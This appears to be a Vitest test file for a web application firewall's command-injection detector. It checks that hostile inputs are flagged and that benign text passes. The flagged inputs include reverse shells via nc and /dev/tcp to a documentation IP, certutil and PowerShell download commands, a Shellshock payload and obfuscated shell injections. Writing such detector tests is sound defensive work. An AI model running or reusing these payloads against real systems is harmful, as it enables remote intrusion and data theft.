import { describe, expect, test } from 'vitest';
import { findings, findingsIn, isStopped, posted } from '../../../../../../../tests/support/wafFindings.ts';

describe('commands behind something else', () => {
  test.each([
    '; cat /x',
    '| whoami',
    'a;id',
    '$(wget x)',
    '`curl x`',
    '127.0.0.1 && uname -a',
    'x\ncat ../secret.txt',
    "a'; nc -e /bin/sh 198.51.100.7 4444 #",
    '8.8.8.8|sudo -u root tee /root/x',
    'x;time sh -c "id"',
    '<(tee log)',
    '& dir c:\\',
    'x | certutil -urlcache -f http://198.51.100.7/a a',
    '; FOO=1 perl -e 1',
  ])('%j', (value) => expect(isStopped(value)).toBe(true));

  test.each([
    ["c'a't /x", 'quotes'],
    ['c\\at /x', 'a backslash'],
    ['ca$@t /x', 'an empty variable'],
    ['cat$IFS/x', 'a separator of fields'],
    [';{cat,/x}', 'braces'],
    ['who$()ami', 'an empty substitution'],
    ['/???/c?t /x', 'patterns'],
    ['/bin/ca[!a]', 'a class of characters'],
    ['cat</x', 'a redirection'],
    ['bash -i >& /dev/tcp/198.51.100.7/80 0>&1', 'a socket'],
    ['{,ip,a}', 'a list'],
  ])('%j, hidden by %s', (value) => expect(findingsIn(value)).toContain('rce-shell'));

  test('a function in a variable', () => {
    expect(findingsIn('() { :; }; x')).toContain('rce-shellshock');
    expect(findings({ headers: { 'user-agent': '() { x;}; echo' } })).toContain('rce-shellshock');
  });
  test.each(['/bin/bash -i', 'c:\\windows\\system32\\cmd.exe /c dir'])('the path of a program: %j', (value) =>
    expect(findingsIn(value)).toContain('rce-path'),
  );
  test.each([
    'for /f %i in (a.txt) do echo %i',
    'if exist c:\\x (del c:\\x)',
    'if "%os%"=="Windows_NT" echo 1',
    'IEX (New-Object Net.WebClient)',
    'Invoke-WebRequest http://198.51.100.7/a',
  ])('Windows: %j', (value) => expect(findingsIn(value)).toContain('rce-windows'));
});

test('a value that is a command counts less, unless the parameter is for commands', () => {
  expect(findingsIn('wget http://example.com/x -O /tmp/a')).toEqual(['rce-direct']);
  expect(isStopped('wget http://example.com/x -O /tmp/a')).toBe(false);
  expect(isStopped('wget http://example.com/x -O /tmp/a', 'cmd')).toBe(true);
});

test('fields of browsers have semicolons, others are values', () => {
  expect(findings({ headers: { 'user-agent': 'Mozilla/5.0 (Linux; Android 14; id; ls; K)' } })).toEqual([]);
  expect(findings({ headers: { 'x-name': 'a; cat /x' } })).toContain('rce-command');
  expect(findings({ headers: { referer: ';env' } })).toContain('rce-command');
});

test.each([
  'cat and dog; ls swap',
  'find the best cat food & toys',
  'Tom & Jerry; time to eat; find out more',
  'name;id;title',
  'price|id|date',
  'R&D; sales; id',
  "rock 'n' roll & O'Brien",
  'Steps:\n1. cd to the folder\nfind attached\nmore',
  'C:\\Users\\me\\Documents\\report.docx',
  '$(document).ready',
  'price is $100 (USD); tax $5',
  'Run `npm install` first, then `git pull`',
  'The `ls` command lists files',
  'for sale in (Berlin) do not miss',
  'if not, then call me',
  'get-started guide',
  '~approx~ 5',
  '{id,name,email}',
  'a{1,3}|b',
  'how to use curl -X POST with json',
  'git commit --amend',
  'chmod 755 meaning',
  '/blog/[slug]/page',
])('%j passes', (value) => expect(isStopped(value)).toBe(false));

test('commands in an article', () => {
  const article =
    'First update the system:\n\n```bash\nsudo apt update && sudo apt install nginx\ncurl -fsSL https://example.com/x | bash\n```\n';
  expect(findings(posted({ body: article }))).toEqual(['rce-document']);
  // A query has no articles.
  expect(isStopped(article)).toBe(true);
});
